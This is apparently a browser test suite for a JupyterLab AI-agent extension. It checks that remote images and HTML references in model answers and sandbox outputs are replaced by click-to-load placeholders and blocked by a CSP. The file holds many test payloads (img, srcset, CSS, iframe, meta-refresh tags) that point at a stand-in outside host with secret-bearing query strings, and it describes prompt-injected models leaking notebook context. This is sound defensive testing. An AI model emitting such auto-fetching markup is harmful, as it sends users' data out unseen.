"""Remote content loads only on a click, in every renderer (issue 8, item 17).

An image URL in the model's Markdown, or in an HTML output of sandbox code, must not be fetched
by the browser on its own: that would be a channel out of a network-less sandbox, and a way for a
prompt-injected model to leak notebook context. "Outside" is ``http://203.0.113.7`` (TEST-NET-3,
never routed): Playwright intercepts every request of the browser context (page, iframes,
widgets), records those not going to JupyterLab itself, and answers the outside ones with a PNG,
so that a click on "Load image" visibly loads it. ``data:`` images stay inline.

Covered: the side panel (a scripted fake model whose answer and whose python output refer to
remote images), the saved-trace renderer (a notebook opened with such a trace), and the live
``%%k2`` widget view (including the sandboxed iframe of an HTML output).
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import nbformat
import pytest

from k2lab import events as ev
from k2lab.trace.notebook import trace_bundle
from tests.browser.test_panel import _png, new_notebook, open_lab, open_panel, widen_panel

pytestmark = pytest.mark.browser

OUTSIDE = "http://203.0.113.7"
SETTINGS = "lab/api/settings/k2lab:plugin"
THEMES = "lab/api/settings/@jupyterlab/apputils-extension:themes"
DATA_PNG = f"data:image/png;base64,{_png(6, 6)}"
# an HTML output of sandbox code with every kind of remote reference (and an inline image)
HOSTILE_HTML = (
    f'<p>table below</p><img src="{OUTSIDE}/html-img.png?secret=h1" alt="chart">'
    f'<img srcset="{OUTSIDE}/srcset.png?secret=h2 2x">'
    f'<div style="background-image: url({OUTSIDE}/css-bg.png?secret=h3)">styled</div>'
    f'<style>p {{ background: url("{OUTSIDE}/style-tag.png?secret=h4") }}</style>'
    f'<link rel="stylesheet" href="{OUTSIDE}/sheet.css?secret=h5">'
    f'<video poster="{OUTSIDE}/poster.png?secret=h6" src="{OUTSIDE}/v.mp4?secret=h7"></video>'
    f'<audio src="{OUTSIDE}/a.mp3?secret=h8"></audio>'
    f'<picture><source srcset="{OUTSIDE}/pic.png?secret=h9"><img src="{DATA_PNG}"></picture>'
    f'<svg width="10" height="10"><image href="{OUTSIDE}/svg.png?secret=h10"/></svg>'
    f'<object data="{OUTSIDE}/obj.svg?secret=h11"></object>'
    f'<embed src="{OUTSIDE}/embed.svg?secret=h12">'
    f'<iframe src="{OUTSIDE}/frame.html?secret=h13"></iframe>'
    f'<meta http-equiv="refresh" content="0; url={OUTSIDE}/refresh?secret=h14">'
    f'<input type="image" src="{OUTSIDE}/input.png?secret=h15">'
    f'<table background="{OUTSIDE}/table-bg.png?secret=h16"><tr><td>1</td></tr></table>'
    f'<img src="{DATA_PNG}" alt="inline">'
)
ANSWER = (
    f"Here is the plot: ![leak]({OUTSIDE}/answer.png?secret=md1) "
    f"and an inline one: ![inline]({DATA_PNG}) "
    f'and raw HTML: <img src="{OUTSIDE}/answer-raw.png?secret=md2">'
)


class Outside:
    """Every request of a browser context that does not go to JupyterLab; outside ones get a PNG."""

    def __init__(self, page: Any, lab: Any) -> None:
        self.requests: list[str] = []  # every attempt (one a CSP blocks is reported too)
        self.sent: list[str] = []  # what reached the network (the route answered it)
        base = lab.url.rstrip("/")
        png = bytes.fromhex(
            "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
            "1f15c4890000000d49444154789c63f8cfc0f01f0005000201e2218bbc0000000049454e44ae426082"
        )

        def on_request(req: Any) -> None:
            if req.url.startswith(("http:", "https:")) and not req.url.startswith(base):
                self.requests.append(req.url)

        def answer(route: Any) -> None:
            self.sent.append(route.request.url)
            route.fulfill(status=200, content_type="image/png", body=png)

        page.context.on("request", on_request)
        page.context.route(re.compile(r"^https?://203\.0\.113\.7/.*"), answer)

    def settle(self, page: Any, ms: int = 1500) -> list[str]:
        """What went out after the page had time to fetch whatever it would fetch."""
        page.wait_for_timeout(ms)
        return list(self.requests)


def loaded(img: Any) -> bool:
    return bool(img.evaluate("i => i.complete && i.naturalWidth > 0"))


def check_placeholder_and_click(page: Any, root: Any, outside: Outside, url_part: str) -> None:
    """The placeholder shows the URL and nothing was fetched; a click loads exactly that image."""
    ph = root.locator(f'.k2lab-remote[data-k2lab-url*="{url_part}"]').first
    ph.wait_for()
    assert url_part in ph.inner_text()
    assert not any(url_part in u for u in outside.requests)
    ph.locator("button.k2lab-remote-load").click()
    img = root.locator(f'img.k2lab-remote-image[src*="{url_part}"]')
    img.wait_for()
    page.wait_for_function(
        "s => [...document.querySelectorAll('img.k2lab-remote-image')]"
        ".some(i => i.src.includes(s) && i.complete && i.naturalWidth > 0)",
        arg=url_part,
    )
    assert any(url_part in u for u in outside.requests)


def _saved_events() -> list[dict[str, Any]]:
    code = json.dumps({"code": "display(HTML(page))"})
    evs: list[ev.Event] = [
        ev.RunStart(
            run_id="r-remote",
            prompt="Show me the chart.",
            model="kimi-k2-thinking",
            model_label="offline demo model (scripted)",
            base_url="",
            policy="ask",
            isolation="bwrap",
            max_steps=30,
        ),
        ev.StepStart(step=1),
        ev.ReasoningDelta(step=1, text="I will display it."),
        ev.StepEnd(step=1, content="", reasoning="I will display it."),
        ev.ToolProposed(step=1, call_id="functions.python:0", name="python", arguments=code),
        ev.ToolDecision(call_id="functions.python:0", decision="approve", by="user"),
        ev.ToolResult(
            call_id="functions.python:0",
            name="python",
            ok=True,
            output="",
            display=[
                {"data": {"text/html": HOSTILE_HTML, "text/plain": "<HTML>"}, "metadata": {}},
                {"data": {"image/png": _png(), "text/plain": "<plot>"}, "metadata": {}},
            ],
        ),
        ev.StepStart(step=2),
        ev.ContentDelta(step=2, text=ANSWER),
        ev.StepEnd(step=2, content=ANSWER, reasoning=""),
        ev.RunEnd(stop_reason="completed", answer=ANSWER, steps=2, tool_calls=1),
    ]
    for i, e in enumerate(evs):
        e.seq = i
    return [e.to_dict() for e in evs]


def test_saved_trace_renderer_loads_nothing_from_outside_until_a_click(
    jupyterlab: Any, page: Any, screenshot: Any
) -> None:
    outside = Outside(page, jupyterlab)
    cell = nbformat.v4.new_code_cell("%k2 Show me the chart.")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data=trace_bundle("r-remote", _saved_events()))
    ]
    nbformat.write(new_notebook([cell]), Path(jupyterlab.root_dir) / "remote_trace.ipynb")

    open_lab(page, jupyterlab, "remote_trace.ipynb")
    out = page.locator(".k2lab-trace-output")
    out.wait_for(timeout=60_000)
    out.locator(".k2lab-answer").wait_for()
    assert outside.settle(page) == [], "fetched from outside before any click"

    # the answer's remote images are placeholders that show their URL; the data: image is inline
    answer = out.locator(".k2lab-answer")
    assert answer.locator(".k2lab-remote").count() == 2
    inline = answer.locator('img[src^="data:image/png"]')
    assert inline.count() == 1 and loaded(inline)
    # the HTML output: its remote image a placeholder, the rest removed and listed, data: kept
    html = out.locator(".k2lab-display-html")
    assert html.locator(".k2lab-remote").count() == 1
    assert html.locator('img[src^="data:"]').count() >= 1
    assert out.locator("img.k2lab-image").count() >= 1  # the output's own PNG bundle
    assert html.evaluate(
        "h => [...h.querySelectorAll('*')].every(e => !/203\\.0\\.113/.test("
        "[...e.attributes].filter(a => a.name !== 'href' && !a.name.startsWith('data-k2lab'))"
        ".map(a => a.value).join(' ')))"
    ), "a remote reference is left in an attribute other than a link's href"
    screenshot("remote-placeholder-trace", out)

    check_placeholder_and_click(page, out, outside, "answer.png")
    assert not any("html-img" in u or "answer-raw" in u for u in outside.requests)
    check_placeholder_and_click(page, html, outside, "html-img.png")
    # only what was clicked went out
    assert {re.sub(r"\?.*", "", u) for u in outside.settle(page, 500)} == {
        f"{OUTSIDE}/answer.png",
        f"{OUTSIDE}/html-img.png",
    }


def _set_theme(lab: Any, theme: str) -> None:
    lab.api(THEMES, "PUT", {"raw": json.dumps({"theme": theme})})


def test_panel_shows_remote_images_as_placeholders_until_a_click(
    jupyterlab: Any, page: Any, screenshot: Any
) -> None:
    from tests.fixtures.fake_server import Call, FakeModel, Turn

    model = FakeModel()
    code = (
        "from IPython.display import HTML, display\n"
        f"display(HTML('<b>from the sandbox</b><img src=\"{OUTSIDE}/sandbox.png?secret=s1\">'))\n"
        "print('shown')"
    )
    model.script(
        [
            Turn(reasoning="I display it.", tool_calls=[Call("python", {"code": code})]),
            Turn(content=ANSWER),
        ]
    )
    raw = {"preset": "custom", "baseUrl": model.base_url, "model": "fake-k2", "approve": "ask"}
    jupyterlab.api(SETTINGS, "PUT", {"raw": json.dumps(raw)})
    try:
        outside = Outside(page, jupyterlab)
        open_lab(page, jupyterlab)
        panel = open_panel(page)
        widen_panel(page)
        panel.locator("button.k2lab-new-session").click()
        panel.locator(".k2lab-prompt-input").fill("Display the page.")
        panel.locator("button.k2lab-send").click()
        panel.locator(".k2lab-call[data-state=pending] button.k2lab-approve").click()
        end = panel.locator(".k2lab-run-end")
        end.wait_for(timeout=60_000)
        assert end.inner_text().startswith("completed"), end.inner_text()
        assert "shown" in panel.locator(".k2lab-stdout").inner_text()
        assert outside.settle(page) == [], "fetched from outside before any click"

        answer = panel.locator(".k2lab-answer")
        assert answer.locator(".k2lab-remote").count() == 2
        assert loaded(answer.locator('img[src^="data:image/png"]'))
        sandbox_html = panel.locator(".k2lab-display-html")
        assert "from the sandbox" in sandbox_html.inner_text()
        assert sandbox_html.locator(".k2lab-remote").count() == 1
        answer.scroll_into_view_if_needed()
        light = screenshot("remote-placeholder-panel-light", panel)

        # the same in the dark theme (the session comes back after the reload)
        _set_theme(jupyterlab, "JupyterLab Dark")
        page.reload()
        page.wait_for_selector("#jp-main-dock-panel", timeout=60_000)
        page.locator("body[data-jp-theme-light=false]").wait_for(state="attached", timeout=30_000)
        panel = open_panel(page)
        panel.locator(".k2lab-answer .k2lab-remote").first.wait_for()
        panel.locator(".k2lab-answer").scroll_into_view_if_needed()
        dark = screenshot("remote-placeholder-panel-dark", panel)
        assert light.exists() and dark.exists()
        assert outside.settle(page, 1000) == [], "fetched from outside after a reload"

        check_placeholder_and_click(page, panel.locator(".k2lab-answer"), outside, "answer.png")
        check_placeholder_and_click(page, panel, outside, "sandbox.png")
        assert not any("answer-raw" in u for u in outside.requests)
    finally:
        _set_theme(jupyterlab, "JupyterLab Light")
        jupyterlab.api(SETTINGS, "PUT", {"raw": "{}"})
        model.close()


def test_live_widget_view_loads_nothing_from_outside_until_a_click(
    jupyterlab: Any, page: Any, screenshot: Any
) -> None:
    from tests.fixtures.fake_server import Call, FakeModel, Turn

    model = FakeModel()
    html_code = f"from IPython.display import HTML, display\ndisplay(HTML({HOSTILE_HTML!r}))"
    md_code = (
        "from IPython.display import Markdown, display\n"
        f"display(Markdown('![md]({OUTSIDE}/display-md.png?secret=w1)'))"
    )
    said = f"Next I show it: ![said]({OUTSIDE}/said.png?secret=w2)"
    model.script(
        [
            Turn(reasoning="HTML first.", tool_calls=[Call("python", {"code": html_code})]),
            Turn(content=said, tool_calls=[Call("python", {"code": md_code})]),
            Turn(content=ANSWER),
        ]
    )
    nb = new_notebook(
        [
            nbformat.v4.new_code_cell("%load_ext k2lab"),
            nbformat.v4.new_code_cell(
                f"%%k2 --base-url {model.base_url} --model fake-k2\nShow the page."
            ),
        ]
    )
    nbformat.write(nb, Path(jupyterlab.root_dir) / "remote_widget.ipynb")
    try:
        outside = Outside(page, jupyterlab)
        page.goto(jupyterlab.lab_url("remote_widget.ipynb"))
        page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=60_000)
        page.wait_for_selector("text=| Idle", timeout=60_000)
        page.locator(".jp-Cell").first.click()
        page.keyboard.press("Shift+Enter")
        page.keyboard.press("Shift+Enter")
        live = page.locator(".k2lab-live")
        live.locator(".k2lab-call.k2lab-status-pending .k2lab-approve").first.click(timeout=60_000)
        # the second call waits: the first one's outputs and the text said with it are shown
        live.locator(".k2lab-call.k2lab-status-pending").first.wait_for(timeout=60_000)
        live.locator("iframe.k2lab-html").wait_for()
        live.locator(".k2lab-content .k2lab-remote").wait_for()
        assert outside.settle(page) == [], "fetched from outside before any click"
        frame = live.locator("iframe.k2lab-html")
        srcdoc = frame.get_attribute("srcdoc") or ""
        assert "Content-Security-Policy" in srcdoc and "secret=h1" in srcdoc  # as a placeholder
        inner = page.frame_locator(".k2lab-live iframe.k2lab-html")
        inner.locator(".k2lab-remote").first.wait_for()
        assert inner.locator('img[src^="data:"]').count() == 2
        screenshot("remote-placeholder-live", live)

        check_placeholder_and_click(page, live.locator(".k2lab-content"), outside, "said.png")
        # the iframe's images: one button under it reloads it with exactly those allowed
        live.locator(".k2lab-remote-note button.k2lab-remote-load-frame").click()
        reloaded = inner.locator('img[src*="html-img.png"]')
        reloaded.wait_for()
        for _ in range(100):  # the sandboxed frame is cross-origin: ask inside it
            if reloaded.evaluate("i => i.complete && i.naturalWidth > 0"):
                break
            page.wait_for_timeout(100)
        assert reloaded.evaluate("i => i.complete && i.naturalWidth > 0")
        gone = {re.sub(r"\?.*", "", u) for u in outside.settle(page, 500)}
        # the frame's placeholders: its <img src> and its <img srcset>
        frame_imgs = {f"{OUTSIDE}/html-img.png", f"{OUTSIDE}/srcset.png"}
        assert gone == {f"{OUTSIDE}/said.png"} | frame_imgs, gone

        live.locator(".k2lab-approve-all").click()
        # the run ends: the saved trace replaces the live view, and fetches nothing new
        page.locator(".k2lab-trace-output .k2lab-answer").wait_for(timeout=60_000)
        gone_after = {re.sub(r"\?.*", "", u) for u in outside.settle(page)}
        assert gone_after == gone, gone_after
    finally:
        model.close()


def _hostile_snippets() -> list[str]:
    from tests.notebook.test_remote_fallback import HOSTILE

    return [s.replace("http://203.0.113.7", OUTSIDE) for s in HOSTILE]


def test_every_hostile_output_loads_nothing_in_the_trace_renderer(
    jupyterlab: Any, page: Any
) -> None:
    """Each way an HTML output can fetch by itself, through rendermime's sanitizer and ours."""
    outside = Outside(page, jupyterlab)
    evs = _saved_events()
    res = next(e for e in evs if e["type"] == "tool.result")
    res["display"] = [{"data": {"text/html": s}, "metadata": {}} for s in _hostile_snippets()]
    cell = nbformat.v4.new_code_cell("%k2 hostile")
    cell.outputs = [nbformat.v4.new_output("display_data", data=trace_bundle("r-h", evs))]
    nbformat.write(new_notebook([cell]), Path(jupyterlab.root_dir) / "hostile.ipynb")
    open_lab(page, jupyterlab, "hostile.ipynb")
    out = page.locator(".k2lab-trace-output")
    out.locator(".k2lab-answer").wait_for(timeout=60_000)
    assert out.locator(".k2lab-display-html").count() == len(res["display"])
    assert outside.settle(page, 2500) == []


def _fallback_page(frames: str) -> str:
    return f"<!DOCTYPE html><html><body>{frames}</body></html>"


def test_saved_html_fallback_loads_nothing_where_it_is_shown_as_is(
    jupyterlab: Any, page: Any
) -> None:
    """The saved text/html as nbviewer (or a trusted notebook without k2lab) shows it: the page
    itself with its sandboxed output iframes, every hostile output in it."""
    outside = Outside(page, jupyterlab)
    evs = _saved_events()
    res = next(e for e in evs if e["type"] == "tool.result")
    res["display"] = [{"data": {"text/html": s}, "metadata": {}} for s in _hostile_snippets()]
    page.set_content(_fallback_page(trace_bundle("r-f", evs)["text/html"]))
    assert page.locator("iframe.k2lab-html").count() == len(res["display"])
    # Markdown image: a placeholder; raw HTML in the Markdown: shown as text
    assert page.locator(".k2lab-answer .k2lab-remote").count() == 1
    assert "<img src=" in page.locator(".k2lab-answer").inner_text()
    assert outside.settle(page, 2500) == []


def test_output_csp_alone_blocks_what_a_rewrite_might_miss(jupyterlab: Any, page: Any) -> None:
    """The second line of defence: the raw hostile outputs (not rewritten) in iframes whose
    srcdoc starts with the CSP send nothing either (Chromium reports the blocked attempts, which
    never reach the network); without it they would."""
    import html as _html

    from k2lab.trace.remote import CSP_META

    # meta refresh is a navigation, which CSP does not govern: the rewrite removes it
    snippets = [s for s in _hostile_snippets() if "refresh" not in s]

    def frames(prefix: str) -> str:
        return "".join(
            f'<iframe sandbox="" srcdoc="{_html.escape(prefix + s, quote=True)}"></iframe>'
            for s in snippets
        )

    outside = Outside(page, jupyterlab)
    page.set_content(_fallback_page(frames(CSP_META)))
    outside.settle(page, 2500)
    assert outside.sent == [], outside.sent
    assert outside.requests, "the control below shows the outputs do try"
    page.set_content(_fallback_page(frames("")))  # the control: the same without the policy
    outside.settle(page, 2500)
    assert outside.sent != []
